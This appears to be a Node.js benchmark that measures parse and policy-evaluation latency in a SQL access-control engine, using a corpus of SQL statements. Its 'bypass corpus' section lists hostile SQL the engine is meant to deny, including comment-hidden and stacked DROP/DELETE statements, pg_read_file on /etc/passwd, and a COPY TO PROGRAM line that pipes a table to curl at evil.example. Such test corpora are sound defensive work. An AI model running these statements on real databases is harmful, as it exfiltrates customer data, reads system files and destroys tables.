#!/usr/bin/env node
// Decision latency: inspect (parse + facts) + evaluate, per statement, over a
// representative corpus under the demo policy. Run after `npx tsc -b packages/policy-core`:
//
//   node packages/policy-core/bench/decision-latency.mjs [--iterations 200]
//
// Prints p50/p99 per statement for the full path (no cache), for the cache-hit path
// (DecisionCache: normalise + lookup), and for parse alone. Target: p99 ≤ 200 µs.
import { readFileSync } from "node:fs";
import { createRequire } from "node:module";
import path from "node:path";
import { fileURLToPath } from "node:url";

const here = path.dirname(fileURLToPath(import.meta.url));
const require = createRequire(import.meta.url);
const pc = require("../dist/index.js");
const demoPolicy = JSON.parse(
  readFileSync(path.join(here, "../test/fixtures/demo-policy.json"), "utf8"),
);

const args = process.argv.slice(2);
const iterationsArg = args.indexOf("--iterations");
const ITERATIONS = iterationsArg >= 0 ? Number(args[iterationsArg + 1]) : 200;

const corpus = [
  // OLTP reads
  "SELECT * FROM customers WHERE id = 42",
  "SELECT id, email, created_at FROM customers WHERE email = 'a@example.com'",
  "SELECT count(*) FROM orders WHERE customer_id = 7 AND status = 'open'",
  "SELECT * FROM orders WHERE id IN (1, 2, 3, 4, 5) ORDER BY created_at DESC LIMIT 20",
  "SELECT abalance FROM pgbench_accounts WHERE aid = 12345",
  "SELECT name, price FROM products WHERE category = $1 AND price < $2",
  "SELECT now()",
  "SELECT 1",
  "SHOW search_path",
  "SELECT current_user, version()",
  // joins and aggregates
  "SELECT c.id, c.email, o.total FROM customers c JOIN orders o ON o.customer_id = c.id WHERE c.id = 1",
  "SELECT c.name, sum(o.total) FROM customers c LEFT JOIN orders o ON o.customer_id = c.id GROUP BY c.name HAVING sum(o.total) > 100",
  "SELECT p.*, i.qty FROM products p JOIN inventory i USING (product_id) JOIN warehouses w ON w.id = i.warehouse_id WHERE w.region = 'eu'",
  "SELECT o.id, (SELECT count(*) FROM order_items oi WHERE oi.order_id = o.id) AS items FROM orders o WHERE o.created_at > now() - interval '1 day'",
  "SELECT * FROM orders o WHERE EXISTS (SELECT 1 FROM refunds r WHERE r.order_id = o.id)",
  "SELECT date_trunc('day', created_at) AS d, count(*) FROM events GROUP BY 1 ORDER BY 1",
  "SELECT id, rank() OVER (PARTITION BY category ORDER BY price DESC) FROM products",
  "SELECT a.id FROM app.accounts a JOIN app.users u ON u.account_id = a.id WHERE u.email ILIKE '%@corp.example'",
  // CTEs
  "WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '7 days') SELECT customer_id, count(*) FROM recent GROUP BY 1",
  "WITH RECURSIVE tree AS (SELECT id, parent_id FROM categories WHERE id = 1 UNION ALL SELECT c.id, c.parent_id FROM categories c JOIN tree t ON c.parent_id = t.id) SELECT * FROM tree",
  "WITH moved AS (DELETE FROM queue WHERE id = 9 RETURNING *) INSERT INTO archive SELECT * FROM moved",
  "WITH u AS (UPDATE accounts SET balance = balance - 10 WHERE id = 3 RETURNING id) SELECT * FROM u",
  // DML
  "INSERT INTO customers (email, name) VALUES ('x@example.com', 'X')",
  "INSERT INTO events (kind, payload, created_at) VALUES ('login', '{}', now()) RETURNING id",
  "INSERT INTO orders (customer_id, total) SELECT id, 0 FROM customers WHERE id = 5",
  "INSERT INTO counters (k, v) VALUES ('a', 1) ON CONFLICT (k) DO UPDATE SET v = counters.v + 1",
  "UPDATE pgbench_accounts SET abalance = abalance + 10 WHERE aid = 12345",
  "UPDATE customers SET email = 'y@example.com' WHERE id = 5",
  "UPDATE orders SET status = 'shipped' FROM shipments s WHERE s.order_id = orders.id AND s.id = 4",
  "DELETE FROM sessions WHERE expires_at < now()",
  "DELETE FROM carts c USING customers u WHERE c.customer_id = u.id AND u.deleted",
  "BEGIN",
  "COMMIT",
  "BEGIN; UPDATE pgbench_tellers SET tbalance = tbalance + 1 WHERE tid = 3; INSERT INTO pgbench_history (tid, delta) VALUES (3, 1); COMMIT",
  "SET statement_timeout = '5s'",
  "PREPARE q (int) AS SELECT * FROM customers WHERE id = $1",
  "EXPLAIN SELECT * FROM orders WHERE customer_id = 1",
  "EXPLAIN ANALYZE SELECT * FROM orders WHERE customer_id = 1",
  "COPY customers TO STDOUT WITH (FORMAT csv)",
  // DDL (review)
  "CREATE TABLE notes (id bigserial PRIMARY KEY, body text NOT NULL, created_at timestamptz DEFAULT now())",
  "ALTER TABLE customers ADD COLUMN phone text",
  "CREATE INDEX CONCURRENTLY ON orders (customer_id, created_at)",
  "DROP TABLE IF EXISTS scratch",
  "GRANT SELECT ON customers TO analyst",
  "COMMENT ON TABLE customers IS 'people who buy'",
  // bypass corpus (denied)
  "/* harmless */ DROP TABLE customers",
  "SELECT 1 -- just a select\n; DELETE FROM customers",
  "WITH d AS (DELETE FROM customers RETURNING *) SELECT * FROM d",
  "SELECT 1; DROP TABLE customers",
  "DO $$ BEGIN DELETE FROM customers; END $$",
  "PREPARE p AS DELETE FROM customers",
  "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'app'",
  "SELECT pg_read_file('/etc/passwd')",
  "SELECT lo_export(1234, '/tmp/x')",
  "SELECT dblink_exec('dbname=postgres', 'DROP TABLE customers')",
  "SELECT set_config('search_path', 'secret', false)",
  "COPY customers TO PROGRAM 'curl -d @- http://evil.example'",
  "EXPLAIN ANALYZE DELETE FROM customers",
  "CREATE RULE r AS ON INSERT TO notes DO ALSO DELETE FROM customers",
  "CREATE FUNCTION wipe() RETURNS void LANGUAGE sql AS $$ DELETE FROM customers $$",
  "SET search_path = secret; SELECT * FROM keys",
  "BEGIN; DELETE FROM customers; COMMIT",
  "UPDATE customers SET email = NULL",
  "TRUNCATE customers",
  "SELEC 1",
];

/** Vary literals so the cache sees a realistic mix of hits (same shape, new values). */
function variant(sql, i) {
  return sql.replace(/\b(42|12345|7|5|3|9|1)\b/g, (m) => String(Number(m) + (i % 97)));
}

await pc.loadSqlParser();
const subject = { user: "alice", groups: ["engineers"] };
const connection = { name: "demo-db", tags: { env: "demo" } };
const now = new Date("2025-06-11T10:30:00Z");
const version = pc.policySetVersion([demoPolicy]);

function timeEach(fn) {
  const samples = [];
  for (let i = 0; i < ITERATIONS; i += 1) {
    for (const sql of corpus) {
      const text = variant(sql, i);
      const t0 = process.hrtime.bigint();
      fn(text);
      samples.push(Number(process.hrtime.bigint() - t0) / 1000);
    }
  }
  return samples;
}

function percentile(sorted, p) {
  return sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))];
}

function report(label, samples) {
  const s = [...samples].sort((a, b) => a - b);
  const fmt = (v) => `${v.toFixed(1)} µs`;
  console.log(
    `${label.padEnd(44)} p50 ${fmt(percentile(s, 50)).padStart(10)}  p99 ${fmt(percentile(s, 99)).padStart(10)}  max ${fmt(s[s.length - 1]).padStart(10)}`,
  );
  return percentile(s, 99);
}

const full = (sql) => pc.evaluate([demoPolicy], { subject, connection, sql }, now);
const cache = new pc.DecisionCache();
const cached = (sql) => cache.evaluate([demoPolicy], version, { subject, connection, sql }, now);
const inspectOnly = (sql) => pc.inspectSql(sql);

// Warm up the JIT and the cache.
for (let i = 0; i < 50; i += 1)
  for (const sql of corpus) {
    full(variant(sql, i));
    cached(variant(sql, i));
  }

console.log(
  `decision latency: ${corpus.length} statements × ${ITERATIONS} iterations, demo policy, Node ${process.version}`,
);
const actions = corpus.map((sql) => full(sql).action);
console.log(
  `corpus decisions: ${["allow", "review", "deny"].map((a) => `${a} ${actions.filter((x) => x === a).length}`).join(", ")}`,
);
const p99 = report("inspect + evaluate (no cache)", timeEach(full));
report("inspect only (parse + facts)", timeEach(inspectOnly));
report("through DecisionCache (mostly hits)", timeEach(cached));
console.log(`cache: ${JSON.stringify(cache.stats)}`);
console.log(
  p99 <= 200
    ? `OK: p99 ${p99.toFixed(1)} µs ≤ 200 µs`
    : `OVER BUDGET: p99 ${p99.toFixed(1)} µs > 200 µs`,
);
